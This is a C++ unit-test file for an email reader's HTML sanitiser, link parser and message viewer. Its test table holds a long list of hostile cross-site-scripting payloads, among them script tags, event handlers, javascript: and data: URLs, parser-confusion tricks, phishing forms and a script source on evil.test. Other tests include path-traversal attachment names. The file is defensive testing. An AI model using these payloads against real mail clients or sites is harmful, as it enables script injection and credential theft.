#include "reader/content.h"
#include "reader/link.h"
#include "reader/safe_html.h"
#include "reader/view.h"

#include <gtest/gtest.h>

#include <regex>
#include <set>

namespace bulla::reader {
namespace {

mail::Message parse(std::string text) {
    std::string bytes;
    for (const char c : text) {
        bytes += c == '\n' ? "\r\n" : std::string(1, c);
    }
    return *mail::Message::parse(std::move(bytes));
}

// What is left must be made of harmless elements and attributes alone, whatever the input's syntax did.
std::string find_harm(const std::string& html) {
    static const std::set<std::string> elements{
        "a",       "abbr",   "address", "b",     "bdi",   "bdo", "big",     "blockquote", "br",
        "caption", "center", "cite",    "code",  "col",   "dd",  "del",     "dfn",        "div",
        "dl",      "dt",     "em",      "font",  "h1",    "h2",  "h3",      "hr",         "i",
        "img",     "li",     "p",       "pre",   "q",     "s",   "span",    "small",      "strong",
        "style",   "sub",    "sup",     "table", "tbody", "td",  "th",      "thead",      "tr",
        "tt",      "u",      "ul",      "ol",    "var",   "wbr", "colgroup"};
    static const std::set<std::string> attributes{
        "href",  "target", "rel",   "src",     "style",   "class",   "title", "alt",
        "width", "height", "align", "color",   "face",    "border",  "size",  "type",
        "value", "dir",    "lang",  "bgcolor", "colspan", "rowspan", "start"};
    static const std::regex tag("<(/?)([a-zA-Z0-9]*)((?: [a-z]+=\"[^\"<>]*\")*)>");
    static const std::regex attribute(" ([a-z]+)=\"([^\"]*)\"");
    std::string rest = html;
    std::smatch found;
    while (rest.find('<') != std::string::npos) {
        if (!std::regex_search(rest, found, tag) ||
            static_cast<std::size_t>(found.position()) != rest.find('<')) {
            return "not a plain tag: " + rest.substr(rest.find('<'), 80);
        }
        if (!elements.contains(found[2])) {
            return "element " + found[2].str();
        }
        const std::string list = found[3];
        for (std::sregex_iterator it(list.begin(), list.end(), attribute), end; it != end; ++it) {
            const std::string name = (*it)[1];
            const std::string value = (*it)[2];
            if (!attributes.contains(name)) {
                return "attribute " + name;
            }
            if (name == "href" &&
                !std::regex_search(value, std::regex("^(https?|mailto|tel):", std::regex::icase))) {
                return "href " + value;
            }
            if (name == "src" && !value.starts_with("data:image/")) {
                return "src " + value;
            }
        }
        rest = found.suffix();
    }
    return {};
}

struct Hostile {
    const char* html;
    const char* kept = "";  ///< Must be in what comes out.
};

class HostileHtml : public testing::TestWithParam<Hostile> {};

TEST_P(HostileHtml, c3_11_nothing_active_is_left) {
    const auto safe = make_safe_html(GetParam().html);
    EXPECT_EQ(find_harm(safe.html), "") << GetParam().html << "\n" << safe.html;
    EXPECT_NE(safe.html.find(GetParam().kept), std::string::npos) << safe.html;
}

constexpr Hostile table[] = {
    {"<script>alert(1)</script>x", "x"},
    {"<SCRIPT SRC=http://evil.test/x.js></SCRIPT>after", "after"},
    {"<scr<script>ipt>alert(1)</scr</script>ipt>"},
    {"<img src=x onerror=alert(1)>"},
    {"<img src=x oNeRrOr =alert(1) alt=\"a picture\">", "a picture"},
    {"<img/src=x/onerror=alert(1)>"},
    {"<img src=\"javascript:alert(1)\">"},
    {"<img src='data:text/html,<script>alert(1)</script>'>"},
    {"<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">"},
    {"<img src=http://track.test/p.gif>"},
    {"<img srcset='http://track.test/p.gif 1x' src=''>"},
    {"<a href=javascript:alert(1)>link</a>", "link"},
    {"<a href='JaVaScRiPt:alert(1)'>link</a>", "link"},
    {"<a href='java&#x09;script:alert(1)'>link</a>", "link"},
    {"<a href='java\tscript:alert(1)'>link</a>", "link"},
    {"<a href=' &#1; javascript:alert(1)'>link</a>", "link"},
    {"<a href='vbscript:x'>link</a>", "link"},
    {"<a href='data:text/html;base64,PHNjcmlwdD4='>link</a>", "link"},
    {"<a href='file:///etc/passwd'>link</a>", "link"},
    {"<a href='//evil.test'>link</a>", "link"},
    {"<a href='https://good.test' onclick='alert(1)'>link</a>", "good.test"},
    {"<a href='https://good.test@evil.test/'>link</a>", "> evil.test <"},
    {"<a href='https:\\\\evil.test\\good.test'>link</a>", "> evil.test <"},
    {"<a href=\"https://x.test/&quot;onmouseover=alert(1)//\">link</a>", "x.test"},
    {"<iframe src=https://evil.test></iframe>x", "x"},
    {"<iframe srcdoc='<script>alert(1)</script>'></iframe>"},
    {"<frameset><frame src=x></frameset>"},
    {"<object data=x.swf></object>"},
    {"<embed src=x.swf>"},
    {"<applet code=x></applet>"},
    {"<svg onload=alert(1)><script>alert(1)</script></svg>x", "x"},
    {"<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>"},
    {"<svg><style><img src=x onerror=alert(1)></style></svg>"},
    {"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"},
    {"<math href='javascript:alert(1)'>x</math>"},
    {"<form action=https://evil.test><input name=p type=password><button>Go</button></form>", "Go"},
    {"<input onfocus=alert(1) autofocus>"},
    {"<select onfocus=alert(1) autofocus><option>x</select>"},
    {"<textarea autofocus onfocus=alert(1)></textarea>"},
    {"<base href='https://evil.test/'>"},
    {"<meta http-equiv=refresh content='0;url=https://evil.test'>"},
    {"<meta http-equiv=Content-Security-Policy content=\"script-src *\">"},
    {"<link rel=stylesheet href=https://evil.test/x.css>"},
    {"<style>@import 'https://evil.test/x.css';</style>"},
    {"<style></style><script>alert(1)</script>"},
    {"<style><!--</style><img src=x onerror=alert(1)>--></style>"},
    {"<style>a{}<\\/style><script>alert(1)</script></style>"},
    {"<body onload=alert(1)>x</body>", "x"},
    {"<div onmouseover=alert(1)>x</div>", "x"},
    {"<div style=\"background:url('javascript:alert(1)')\">x</div>", "x"},
    {"<div style='x:expression(alert(1))'>x</div>", "x"},
    {"<div style='a\"onclick=alert(1)'>x</div>", "x"},
    {"<video src=x onerror=alert(1)><source onerror=alert(1)></video>"},
    {"<audio src=x onerror=alert(1)></audio>"},
    {"<details open ontoggle=alert(1)>x</details>", "x"},
    {"<marquee onstart=alert(1)>x</marquee>", "x"},
    {"<template><script>alert(1)</script></template>"},
    {"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"},
    {"<title><img src=x onerror=alert(1)></title>"},
    {"<xml><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>"},
    {"<!--><img src=x onerror=alert(1)>-->"},
    {"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"},
    {"<![CDATA[<script>alert(1)</script>]]>"},
    {"<?xml version='1.0'?><?php echo 1 ?>x", "x"},
    {"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"},
    {"<p/onclick=alert(1)>x", "x"},
    {"<p\x0bonclick=alert(1)>x", "x"},
    {"<p title='a\" onclick=\"alert(1)'>x</p>", "x"},
    {"<p title='&quot; onclick=alert(1) &quot;'>x</p>", "x"},
    {"<<script>alert(1)//<</script>x"},
    {"&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;"},
    {"<a href='https://xn--80ak6aa92e.test'>apple</a>", "xn--80ak6aa92e.test"},
    {"<a href='https://\xd0\xb0pple.test'>apple</a>", "> xn--"},
    {"<button onclick=alert(1) formaction=javascript:alert(1)>x</button>", "x"},
    {"<isindex action=javascript:alert(1) type=image>"},
    {"<table background=javascript:alert(1)><tr><td>x</table>", "x"},
    {"<div id=bulla class=x>x</div>", "x"},
    {"<plaintext><script>alert(1)</script>"},
    {"<xmp><script>alert(1)</script></xmp>"},
    {"<portal src=https://evil.test></portal>"},
    {"<object><param name=movie value=x></object>"},
    {"<a href='https://good.test' ping=https://evil.test target=_top>x</a>", "target=\"_blank\""},
    {"<img src='cid:x' usemap=#m><map name=m><area href=javascript:alert(1)></map>"},
    {"<p><unclosed <b attr"},
    {"<html><body>one</body></html>two<script>alert(1)</script>three", "three"},
};

INSTANTIATE_TEST_SUITE_P(Table, HostileHtml, testing::ValuesIn(table));

TEST(SafeHtml, c3_11_depth_and_length_are_bounded) {
    std::string deep;
    for (int i = 0; i < 200'000; ++i) {
        deep += "<div>";
    }
    const auto safe = make_safe_html(deep + "x");
    EXPECT_LT(safe.html.size(), 10'000U);
    const auto cut =
        make_safe_html(std::string(100'000, 'a') + "<p>b<p>c", {.picture = {}, .max_output = 1000});
    EXPECT_TRUE(cut.cut);
    EXPECT_EQ(cut.html.find('b'), std::string::npos);
}

TEST(SafeHtml, c3_4_what_is_harmless_stays) {
    const auto safe = make_safe_html(
        "<html><head><title>T</title><style>p{color:red}</style></head><body><h1>Hi</h1><p "
        "class=\"a\" style=\"color:blue\">Text "
        "&amp; <b>bold</b><br>more</p><table><tr><td colspan=2>1</td></tr></table></body></html>");
    EXPECT_EQ(safe.html,
              "<style>p{color:red}</style><h1>Hi</h1><p class=\"a\" style=\"color:blue\">Text "
              "&amp; <b>bold</b><br>more</p>"
              "<table><tr><td colspan=\"2\">1</td></tr></table>");
}

TEST(Link, c3_4_the_real_host) {
    struct Case {
        const char* href;
        const char* host;
    };

    for (const auto& [href, host] : {Case{"https://a.test/x", "a.test"},
                                     Case{"HTTP://A.Test:8080?q", "a.test"},
                                     Case{"https://bank.test:pw@evil.test", "evil.test"},
                                     Case{"https:evil.test", "evil.test"},
                                     Case{"https:///evil.test", "evil.test"},
                                     Case{"http://[2001:db8::1]:80/", "[2001:db8::1]"},
                                     Case{"mailto:a@b.test?subject=x", "a@b.test"},
                                     Case{"tel:+123", "+123"}}) {
        const auto link = read_link(href);
        ASSERT_TRUE(link) << href;
        EXPECT_EQ(link->host, host) << href;
    }
    for (const auto* href : {"",
                             "#top",
                             "/path",
                             "ftp://a.test",
                             "about:blank",
                             "https://",
                             "https://user@",
                             "mailto:",
                             "x"}) {
        EXPECT_FALSE(read_link(href)) << href;
    }
}

TEST(View, c3_4_pictures_of_the_message_are_shown_and_those_from_elsewhere_counted) {
    const auto view = make_view(
        parse("Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"
              "<img src=\"cid:p1@x\"><img src=\"http://t.test/x\">\n--b\nContent-Type: image/png\n"
              "Content-ID: <p1@x>\nContent-Transfer-Encoding: base64\n\niVBORw==\n--b--\n"),
        ViewPart::automatic);
    ASSERT_TRUE(view);
    EXPECT_NE(view->find("src=\"data:image/png;base64,iVBORw==\""), std::string::npos) << *view;
    EXPECT_NE(view->find("1 picture from elsewhere was not loaded"), std::string::npos);
    EXPECT_EQ(view->find("t.test"), std::string::npos);
}

TEST(View, c3_4_plain_text_is_escaped) {
    const auto view = make_view(
        parse("Content-Type: text/plain; charset=iso-8859-1\n\n<script>caf\xe9</script>\n"),
        ViewPart::automatic);
    ASSERT_TRUE(view);
    EXPECT_NE(view->find("&lt;script&gt;café&lt;/script&gt;"), std::string::npos) << *view;
    EXPECT_TRUE(
        make_view(parse("Content-Type: image/png\n\nx"), ViewPart::automatic)->find("no text") !=
        std::string::npos);
}

TEST(Content, c3_4_parts_have_numbers_and_safe_names) {
    const auto message = parse(
        "Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=\nContent-Type: multipart/mixed; boundary=m\n\n--m\n"
        "Content-Type: multipart/alternative; boundary=a\n\n--a\nContent-Type: "
        "text/plain\n\nplain\n--a\n"
        "Content-Type: text/html\n\n<b>html</b>\n--a--\n--m\nContent-Type: application/pdf\n"
        "Content-Disposition: attachment; filename=\"../../etc/pass\\\\wd\"\n\nx\n--m--\n");
    const auto content = read_content(message);
    ASSERT_TRUE(content);
    EXPECT_EQ(content->fields.front().value, "Grüße");
    ASSERT_EQ(content->parts.size(), 4U);
    EXPECT_EQ(content->parts[0].number, "1");
    EXPECT_EQ(find_part(*content, "1.2")->type, "text/html");
    EXPECT_EQ(find_part(*content, "2")->disposition, "attachment");
    EXPECT_EQ(find_part(*content, "2")->name.find_first_of("/\\"), std::string::npos);
    EXPECT_EQ(find_part(*content, "3"), nullptr);
    ASSERT_TRUE(content->text && content->html);
    EXPECT_EQ(read_text(message, content->tree.parts[*content->text], 100), "plain");
}

}  // namespace
}  // namespace bulla::reader
